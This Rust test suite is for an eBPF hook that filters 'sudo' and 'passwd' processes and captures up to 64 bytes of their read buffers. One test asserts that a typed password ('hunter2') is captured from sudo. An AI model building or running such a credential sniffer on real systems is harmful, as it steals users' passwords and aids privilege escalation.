use ebpf_hook::event::{fill_window, process_id, thread_id, user_id, HookingFullEvent};
use ebpf_hook::filter::is_interesting_process;
use ebpf_hook::probes::{
    entry_record, handle_read_enter, handle_read_return, handle_vfs_write, plan_read_capture,
    read_event, ReadCapture, TaskInfo,
};
use ebpf_hook::store::CorrelationStore;

fn comm_of(name: &[u8]) -> [u8; 16] {
    let mut c = [0u8; 16];
    c[..name.len()].copy_from_slice(name);
    c
}

fn task(pid: u32, tid: u32, uid: u32, name: &[u8]) -> TaskInfo {
    TaskInfo {
        pid_tgid: ((pid as u64) << 32) | tid as u64,
        uid_gid: (500u64 << 32) | uid as u64,
        comm: Some(comm_of(name)),
    }
}

/// Runs a whole read: entry, return, and the copy out of `user_mem`.
fn run_read(
    store: &mut CorrelationStore,
    t: &TaskInfo,
    buf_addr: usize,
    user_mem: &[u8],
    ret: isize,
) -> Option<HookingFullEvent> {
    handle_read_enter(store, t.pid_tgid, buf_addr);
    let cap = handle_read_return(store, t, ret)?;
    let captured = &user_mem[..cap.len];
    Some(read_event(t.uid_gid, t.pid_tgid, t.comm.unwrap(), captured))
}

#[test]
fn targets_match_exactly() {
    assert!(is_interesting_process(&comm_of(b"sudo")));
    assert!(is_interesting_process(&comm_of(b"passwd")));
    assert!(!is_interesting_process(&comm_of(b"sudoedit")));
    assert!(!is_interesting_process(&comm_of(b"passwdx")));
    assert!(!is_interesting_process(&comm_of(b"sud")));
    assert!(!is_interesting_process(&comm_of(b"xsudo")));
    assert!(!is_interesting_process(&comm_of(b"bash")));
    assert!(!is_interesting_process(&comm_of(b"")));
}

#[test]
fn target_followed_by_garbage_after_null_matches() {
    let mut c = comm_of(b"sudo");
    c[5] = b'g';
    c[6] = b'a';
    c[15] = 0xff;
    assert!(is_interesting_process(&c));
}

#[test]
fn full_length_name_without_null() {
    let c = [b's'; 16];
    assert!(!is_interesting_process(&c));
    let mut p = [b'x'; 16];
    p[..6].copy_from_slice(b"passwd");
    assert!(!is_interesting_process(&p));
}

#[test]
fn identity_words_split_exactly() {
    let w: u64 = 0x0000_1234_0000_abcd;
    assert_eq!(process_id(w), 0x1234);
    assert_eq!(thread_id(w), 0xabcd);
    assert_eq!(user_id(0xffff_ffff_0000_03e8), 1000);
    assert_eq!(process_id(u64::MAX), u32::MAX);
    assert_eq!(thread_id(u64::MAX), u32::MAX);
}

#[test]
fn write_from_target_gives_one_zeroed_event() {
    let t = task(42, 43, 1000, b"passwd");
    let e = handle_vfs_write(&t).expect("event for passwd");
    assert_eq!(e.uid, 1000);
    assert_eq!(e.pid, 42);
    assert_eq!(e.comm, comm_of(b"passwd"));
    assert_eq!(e.data, [0u8; 64]);
    assert_eq!(e._pad, [1, 1, 1]);
}

#[test]
fn write_from_other_process_gives_nothing() {
    assert!(handle_vfs_write(&task(42, 43, 0, b"bash")).is_none());
    assert!(handle_vfs_write(&task(42, 43, 0, b"sudoedit")).is_none());
    let mut t = task(42, 43, 0, b"sudo");
    t.comm = None;
    assert!(handle_vfs_write(&t).is_none());
}

#[test]
fn entry_with_null_buffer_keeps_nothing() {
    assert_eq!(entry_record(7, 0), None);
    assert_eq!(entry_record((9u64 << 32) | 7, 0x1000), Some((7, 0x1000)));
    let mut s = CorrelationStore::new();
    handle_read_enter(&mut s, 7, 0);
    assert_eq!(s.len(), 0);
    assert_eq!(s.get(7), None);
}

#[test]
fn sudo_read_of_hunter2_is_captured() {
    let mut s = CorrelationStore::new();
    let t = task(100, 101, 0, b"sudo");
    let mut mem = [0xaau8; 12];
    mem[..8].copy_from_slice(b"hunter2\n");
    mem[8..].copy_from_slice(&[0, 0, 0, 0]);
    let e = run_read(&mut s, &t, 0x7fff_0000, &mem, 12).expect("one event");
    assert_eq!(&e.data[0..8], b"hunter2\n");
    assert!(e.data[8..64].iter().all(|b| *b == 0));
    assert_eq!(&e.comm[0..4], b"sudo");
    assert_eq!(e.pid, 100);
    assert_eq!(e.uid, 0);
    assert_eq!(e._pad, [2, 2, 2]);
    assert_eq!(s.len(), 0);
}

#[test]
fn bash_read_gives_nothing_and_leaves_no_record() {
    let mut s = CorrelationStore::new();
    let t = task(200, 201, 1000, b"bash");
    let mem = [b'a'; 64];
    assert!(run_read(&mut s, &t, 0x5000, &mem, 10).is_none());
    assert_eq!(s.len(), 0);
    assert_eq!(s.get(201), None);
}

#[test]
fn return_without_entry_is_a_no_op() {
    let mut s = CorrelationStore::new();
    s.insert(5, 0x10);
    let t = task(1, 2, 0, b"sudo");
    assert_eq!(handle_read_return(&mut s, &t, 30), None);
    assert_eq!(s.len(), 1);
    assert_eq!(s.get(5), Some(0x10));
}

#[test]
fn non_positive_read_gives_no_event() {
    for ret in [0isize, -1, -14, isize::MIN] {
        let mut s = CorrelationStore::new();
        let t = task(1, 2, 0, b"passwd");
        handle_read_enter(&mut s, t.pid_tgid, 0x1000);
        assert_eq!(handle_read_return(&mut s, &t, ret), None);
        assert_eq!(s.len(), 0);
    }
}

#[test]
fn capture_length_is_clamped_to_window() {
    let comm = Some(comm_of(b"sudo"));
    assert_eq!(
        plan_read_capture(Some(9), comm, 1),
        Some(ReadCapture { addr: 9, len: 1 })
    );
    assert_eq!(
        plan_read_capture(Some(9), comm, 63),
        Some(ReadCapture { addr: 9, len: 63 })
    );
    assert_eq!(
        plan_read_capture(Some(9), comm, 64),
        Some(ReadCapture { addr: 9, len: 64 })
    );
    assert_eq!(
        plan_read_capture(Some(9), comm, 4096),
        Some(ReadCapture { addr: 9, len: 64 })
    );
    assert_eq!(plan_read_capture(None, comm, 10), None);
    assert_eq!(plan_read_capture(Some(9), None, 10), None);
}

#[test]
fn long_read_fills_whole_window() {
    let mut s = CorrelationStore::new();
    let t = task(3, 4, 0, b"sudo");
    let mem: Vec<u8> = (0..200u32).map(|i| (i % 251) as u8 + 1).collect();
    let e = run_read(&mut s, &t, 0x2000, &mem, 200).unwrap();
    assert_eq!(&e.data[..], &mem[..64]);
}

#[test]
fn window_pads_with_zeros() {
    let w = fill_window(&[1, 2, 3]);
    assert_eq!(&w[..3], &[1, 2, 3]);
    assert!(w[3..].iter().all(|b| *b == 0));
    assert_eq!(fill_window(&[]), [0u8; 64]);
}

#[test]
fn repeated_reads_each_take_their_own_address() {
    let mut s = CorrelationStore::new();
    let t = task(10, 11, 0, b"sudo");
    for addr in [0x100usize, 0x200, 0x300] {
        handle_read_enter(&mut s, t.pid_tgid, addr);
        assert_eq!(s.get(11), Some(addr));
        let cap = handle_read_return(&mut s, &t, 5).unwrap();
        assert_eq!(cap.addr, addr);
        assert_eq!(s.get(11), None);
        assert_eq!(handle_read_return(&mut s, &t, 5), None);
    }
}

#[test]
fn second_entry_overwrites_first() {
    let mut s = CorrelationStore::new();
    let t = task(10, 11, 0, b"passwd");
    handle_read_enter(&mut s, t.pid_tgid, 0x100);
    handle_read_enter(&mut s, t.pid_tgid, 0x900);
    assert_eq!(s.len(), 1);
    assert_eq!(handle_read_return(&mut s, &t, 3).unwrap().addr, 0x900);
}

#[test]
fn full_store_drops_new_threads_but_overwrites_old() {
    let mut s = CorrelationStore::with_capacity(2);
    s.insert(1, 0x10);
    s.insert(2, 0x20);
    s.insert(3, 0x30);
    assert_eq!(s.len(), 2);
    assert_eq!(s.get(3), None);
    s.insert(2, 0x22);
    assert_eq!(s.get(2), Some(0x22));
    let t = task(9, 3, 0, b"sudo");
    assert_eq!(handle_read_return(&mut s, &t, 8), None);
    s.remove(1);
    s.insert(3, 0x33);
    assert_eq!(s.take(3), Some(0x33));
    assert_eq!(s.len(), 1);
}

#[test]
fn default_store_holds_1024_threads() {
    let mut s = CorrelationStore::new();
    for tid in 0..1024u32 {
        s.insert(tid, 0x1000 + tid as usize);
    }
    assert_eq!(s.len(), 1024);
    s.insert(5000, 1);
    assert_eq!(s.len(), 1024);
    assert_eq!(s.get(5000), None);
    s.insert(7, 1);
    assert_eq!(s.get(7), Some(1));
}
